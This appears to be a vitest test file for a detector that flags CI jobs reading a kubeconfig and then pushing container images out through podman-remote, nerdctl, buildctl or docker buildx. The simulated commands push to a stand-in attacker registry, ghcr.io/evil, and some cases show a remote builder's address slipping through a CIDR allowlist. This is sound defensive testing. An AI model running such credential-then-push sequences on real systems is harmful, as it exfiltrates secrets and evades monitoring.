/**
 * Clients other than docker's and buildctl that hand their push to a service elsewhere (review of the
 * remote-builder fix): podman-remote (`podman --remote`, `--url tcp://…`, `--connection NAME`, the
 * `podman-remote` binary) asks a podman service to push, and `nerdctl build` runs buildctl against
 * `--buildkit-host tcp://…`. Their own connections go to that service, not to the registry: a CIDR entry
 * for an internal registry's range holding the service's address exempted a push to ghcr.io, as it did for
 * buildctl before. `podman push` without a remote and `nerdctl push` upload themselves: their entry still
 * covers them.
 */
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/model/alert.js';
import { MiB, type Proc, run, Scenario } from './builder.js';

const SERVICE = '10.96.7.20';
const HARBOR = '10.20.0.5';
const allowlist = [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'internal Harbor' }];
const summary = (alerts: readonly Alert[]) => alerts.map((a) => [a.rule, a.severity, a.push.tool, a.push.destination]);

/** The job reads a kubeconfig, then runs `binary args`, which sends `bytes` to `ip`. */
function job(binary: string, args: string, ip: string, port: number, child?: { binary: string; args: string }) {
  const s = new Scenario();
  const ctr = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
  const sh = s.init(ctr);
  s.read(sh, '/root/.kube/config', 5_000).wait(1_000);
  let p: Proc = s.exec(ctr, binary, args, { parent: sh });
  if (child !== undefined) p = s.wait(5).exec(ctr, child.binary, child.args, { parent: p });
  s.connect(p, ip, port)
    .send(p, ip, port, 2 * MiB)
    .wait(2_000)
    .exit(p)
    .wait(60_000);
  return s.events;
}

describe('clients whose push a remote service uploads', () => {
  const remotePodman: Array<[string, string]> = [
    ['/usr/bin/podman', '--url tcp://podman.ci:8888 push ghcr.io/evil/x:1'],
    ['/usr/bin/podman', '--remote push ghcr.io/evil/x:1'],
    ['/usr/bin/podman', '-r push ghcr.io/evil/x:1'],
    ['/usr/bin/podman', '--connection ci push ghcr.io/evil/x:1'],
    ['/usr/bin/podman-remote', 'push ghcr.io/evil/x:1'],
  ];
  for (const [binary, args] of remotePodman)
    it(`podman-remote's service address is not the registry's range: ${args}`, () => {
      expect(summary(run(job(binary, args, SERVICE, 8888), { allowlist }).alerts)).toEqual([
        ['sensitive-read-then-push', 'high', 'podman', 'ghcr.io'],
      ]);
    });

  it("nerdctl build on a BuildKit at tcp://: the builder's address is not the registry's range", () => {
    const args =
      '--buildkit-host tcp://buildkitd.buildkit:1234 build -t ghcr.io/evil/x --output type=image,name=ghcr.io/evil/x,push=true .';
    // nerdctl runs buildctl, which connects (its push joins nerdctl's); seen or not, BuildKit uploads.
    const buildctl = {
      binary: '/usr/local/bin/buildctl',
      args: '--addr tcp://buildkitd.buildkit:1234 build --frontend dockerfile.v0 --local context=. --local dockerfile=. --output type=image,name=ghcr.io/evil/x,push=true',
    };
    for (const child of [undefined, buildctl])
      expect(
        summary(run(job('/usr/local/bin/nerdctl', args, SERVICE, 1234, child), { allowlist }).alerts),
        child === undefined ? 'nerdctl' : 'nerdctl → buildctl',
      ).toEqual([['sensitive-read-then-push', 'high', 'nerdctl', 'ghcr.io']]);
  });

  it('podman and nerdctl pushing themselves into the range stay exempt', () => {
    for (const [binary, args] of [
      ['/usr/bin/podman', 'push harbor.corp.example/app/api:1'],
      ['/usr/bin/podman', '--remote=false push harbor.corp.example/app/api:1'],
      ['/usr/local/bin/nerdctl', 'push harbor.corp.example/app/api:1'],
    ] as const) {
      const events = job(binary, args, HARBOR, 443);
      expect(run(events).alerts, args).toHaveLength(1);
      expect(run(events, { allowlist }).alerts, args).toEqual([]);
    }
  });
});

describe('a build naming its image only in the output that pushes', () => {
  // `docker buildx build --output type=image,name=REF,push=true .` names no `-t`: the destination was the
  // client's first connect, the remote BuildKit's own address, so a host entry naming the registry could not
  // match and the alert named the builder.
  const build = (image: string) =>
    job('/usr/local/bin/docker', `buildx build --output type=image,name=${image},push=true .`, SERVICE, 1234);

  it("names the output's registry, not the builder's address", () => {
    expect(summary(run(build('ghcr.io/evil/x:1')).alerts)).toEqual([
      ['sensitive-read-then-push', 'high', 'docker', 'ghcr.io'],
    ]);
  });

  it('is exempt under a host entry naming that registry', () => {
    const hostEntry = [{ namespace: 'ci', destination: 'harbor.corp.example', reason: 'CI builds to Harbor' }];
    expect(run(build('harbor.corp.example/app/api:1'), { allowlist: hostEntry }).alerts).toEqual([]);
  });
});
